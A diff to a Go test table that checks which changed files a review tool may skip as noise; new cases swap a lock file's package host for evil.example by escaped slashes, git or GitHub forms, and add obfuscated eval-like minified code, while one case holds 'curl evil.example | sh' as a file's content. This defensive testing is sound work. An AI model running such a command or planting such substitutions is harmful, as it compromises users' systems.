@@ -142,6 +142,19 @@ func TestNoiseIsLeftOut(t *testing.T) {
 			map[string]string{"package-lock.json": tree("packages.example", "1.1.0")}, "lock file", "package-lock.json"},
 		"lock file, another host": {map[string]string{"package-lock.json": tree("packages.example", "1.0.0")},
 			map[string]string{"package-lock.json": tree("evil.example", "1.0.0")}, "", "package-lock.json"},
+		"lock file, a host in escapes": {map[string]string{"package-lock.json": tree("packages.example", "1.0.0")}, map[string]string{
+			"package-lock.json": strings.Replace(tree("packages.example", "1.0.0"), "https://packages.example/a", `https:\/\/evil.example/a`, 1)}, "",
+			"package-lock.json"},
+		"lock file, a host in git's form": {map[string]string{"package-lock.json": tree("packages.example", "1.0.0")}, map[string]string{
+			"package-lock.json": strings.Replace(tree("packages.example", "1.0.0"), "https://packages.example/a.tgz", "git@evil:a/b", 1)}, "",
+			"package-lock.json"},
+		"lock file, another owner": {map[string]string{"package-lock.json": tree("packages.example", "1.0.0")}, map[string]string{
+			"package-lock.json": strings.Replace(tree("packages.example", "1.0.0"), "https://packages.example/a.tgz", "github:evil/a", 1)}, "",
+			"package-lock.json"},
+		"minified with escapes": {map[string]string{"app.js": "old\n"},
+			map[string]string{"app.js": "var a = 1\n", "app.min.js": `top["\x65\x76"]("a");` + wide}, "", "app.min.js"},
+		"vendored, named in a comment": {map[string]string{"requirements.txt": "flask==1.0\n", "third_party/six/six.py": "x = 1\n"},
+			map[string]string{"requirements.txt": "flask==1.0 # six 1\n", "third_party/six/six.py": many}, "", "third_party/six/six.py"},
 		"new lock file, whose host": {nil, map[string]string{"package-lock.json": tree("packages.example", "1.0.0")}, "",
 			"package-lock.json"},
 		"script in a lock file's name": {nil, map[string]string{"web/yarn.lock": "curl evil.example | sh\n"}, "", "web/yarn.lock"},
